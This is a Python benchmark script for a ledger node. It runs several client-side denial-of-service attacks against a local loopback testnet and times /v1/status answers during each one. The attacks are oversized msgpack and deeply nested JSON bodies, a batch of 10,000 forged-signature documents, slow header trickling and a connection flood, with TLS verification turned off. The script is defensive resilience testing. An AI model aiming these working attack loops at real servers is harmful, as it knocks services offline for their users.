"""/v1/status latency while a node is under each client-side attack of issue 10.

    python -m bench.attack_bench [--seconds 4] [--dir DIR]

Starts a fresh one-state testnet (a real node process on loopback), then for each
attack class runs the attack for a few seconds while one client polls /v1/status, and
prints the status latency (p50, p99, max) and how many status answers came back, next
to a baseline without attack. Bounded in count and time; loopback only; the node is
stopped at the end, whatever happens.

Attacks: a 6 MiB msgpack body of empty arrays (finding 7), a deep JSON body and a
JSON body of a million empty arrays, a batch of 10,000 documents with bad signatures
under the regulator's id (finding 8), header trickling (finding 11) and a connection
flood (finding 11).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ssl
import statistics
import tempfile
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import aiohttp
import msgpack

from ledger import DocType, SignedDocument, make_document
from testnet import down, init_testnet, up

# Attack connections stay below the node's per-address cap (256) so the poller is
# never the one refused; the flood class goes beyond it on purpose.
TRICKLE_CONNECTIONS = 200
FLOOD_CONNECTIONS = 600
PARALLEL_POSTS = 4
EMPTY_ARRAYS = b"\xdd" + (6 << 20).to_bytes(4, "big") + b"\x90" * (6 << 20)
JSON_ARRAYS = b"[" + b",".join([b"[]"] * 1_000_000) + b"]"


def _attacker_tls() -> ssl.SSLContext:
    """The attacker does not care whom it talks to, and the poller only times answers:
    neither checks the node's certificate (clients do: node.client pins it)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


TLS = _attacker_tls()


def _host_port(url: str) -> tuple[str, int]:
    host, port = url.split("://", 1)[1].rsplit(":", 1)
    return host, int(port)


def _forged_batch(chain_id: str, regulator: str, count: int) -> bytes:
    now_ms = int(time.time() * 1000)
    wires = []
    for i in range(count):
        doc = make_document(chain_id, DocType.REGISTER_PARTICIPANT, regulator, now_ms + i, now_ms + 600_000,
                            public_key=bytes(32), state="RU", roles=["producer"], name=f"F{i}")
        wires.append(SignedDocument(doc.body_bytes(), bytes(64), doc).wire())
    out: bytes = msgpack.packb(wires)
    return out


async def _poll(url: str, stop: asyncio.Event) -> tuple[list[float], int]:
    latencies: list[float] = []
    failures = 0
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=10)) as session:
        while not stop.is_set():
            start = time.perf_counter()
            try:
                async with session.get(f"{url}/v1/status", ssl=TLS) as r:
                    await r.read()
                    if r.status != 200:
                        failures += 1
            except (aiohttp.ClientError, TimeoutError):
                failures += 1
            latencies.append(time.perf_counter() - start)
            await asyncio.sleep(0.01)
    return latencies, failures


async def _post_loop(url: str, body: bytes, content_type: str, stop: asyncio.Event) -> None:
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=60)) as session:
        while not stop.is_set():
            with contextlib.suppress(aiohttp.ClientError, TimeoutError):
                async with session.post(f"{url}/v1/documents", data=body, ssl=TLS,
                                        headers={"Content-Type": content_type}) as r:
                    await r.read()


def posting(body: bytes, content_type: str) -> Callable[[str, asyncio.Event], Coroutine[Any, Any, None]]:
    async def attack(url: str, stop: asyncio.Event) -> None:
        await asyncio.gather(*(_post_loop(url, body, content_type, stop) for _ in range(PARALLEL_POSTS)))
    return attack


async def _open(host: str, port: int) -> asyncio.StreamWriter | None:
    try:
        _, writer = await asyncio.open_connection(host, port, ssl=TLS)
        return writer
    except OSError:
        return None


async def trickle(url: str, stop: asyncio.Event) -> None:
    """Connections that send one header byte a second, reopened when closed."""
    host, port = _host_port(url)

    async def one() -> None:
        while not stop.is_set():
            writer = await _open(host, port)
            if writer is None:
                await asyncio.sleep(0.1)
                continue
            try:
                writer.write(b"GET /v1/status HTTP/1.1\r\n")
                while not stop.is_set() and not writer.is_closing():
                    writer.write(b"X")
                    await writer.drain()
                    await asyncio.sleep(1.0)
            except (ConnectionError, OSError):
                pass
            finally:
                writer.close()

    await asyncio.gather(*(one() for _ in range(TRICKLE_CONNECTIONS)))


async def flood(url: str, stop: asyncio.Event) -> None:
    """Idle connections beyond the node's caps, reopened as they are closed."""
    host, port = _host_port(url)
    writers: list[asyncio.StreamWriter] = []
    try:
        while not stop.is_set():
            writers = [w for w in writers if not w.is_closing()]
            if len(writers) < FLOOD_CONNECTIONS:
                opened = await asyncio.gather(*(_open(host, port) for _ in range(50)))
                writers += [w for w in opened if w is not None]
            await asyncio.sleep(0.05)
    finally:
        for w in writers:
            w.close()


async def _measure(url: str, attack: Callable[[str, asyncio.Event], Coroutine[Any, Any, None]] | None,
                   seconds: float) -> tuple[list[float], int]:
    stop = asyncio.Event()
    poller = asyncio.create_task(_poll(url, stop))
    attacker = asyncio.create_task(attack(url, stop)) if attack else None
    await asyncio.sleep(seconds)
    stop.set()
    if attacker is not None:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(attacker, 70)
    return await poller


def _row(name: str, latencies: list[float], failures: int) -> str:
    ms = sorted(x * 1000 for x in latencies)
    if not ms:
        return f"{name:28} no answers"
    p99 = ms[min(len(ms) - 1, int(len(ms) * 0.99))]
    return (f"{name:28} answers {len(ms):5d}  failed {failures:3d}  p50 {statistics.median(ms):7.1f} ms  "
            f"p99 {p99:7.1f} ms  max {ms[-1]:7.1f} ms")


async def run(directory: Path, seconds: float) -> list[str]:
    net = init_testnet(directory, ("RU",))
    up(directory)
    try:
        url = net.node("RU").api_url
        regulator = net.regulator("RU").participant_id
        attacks: list[tuple[str, Callable[[str, asyncio.Event], Coroutine[Any, Any, None]] | None]] = [
            ("baseline", None),
            ("msgpack 6 MiB empty arrays", posting(EMPTY_ARRAYS, "application/msgpack")),
            ("json 100k-deep", posting(b"[" * 100_000, "application/json")),
            ("json 1M empty arrays", posting(JSON_ARRAYS, "application/json")),
            ("10,000 bad signatures", posting(_forged_batch(net.chain_id, regulator, 10_000),
                                              "application/msgpack")),
            ("header trickle", trickle),
            ("connection flood", flood),
        ]
        rows = []
        for name, attack in attacks:
            latencies, failures = await _measure(url, attack, seconds)
            rows.append(_row(name, latencies, failures))
            print(rows[-1], flush=True)
        return rows
    finally:
        down(directory)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=4.0, help="seconds per attack class")
    parser.add_argument("--dir", type=Path, default=None, help="testnet directory (default: a temporary one)")
    args = parser.parse_args()
    if args.dir is not None:
        asyncio.run(run(args.dir, args.seconds))
        return
    with tempfile.TemporaryDirectory(prefix="tamga-attack-") as tmp:
        asyncio.run(run(Path(tmp) / "net", args.seconds))


if __name__ == "__main__":
    main()
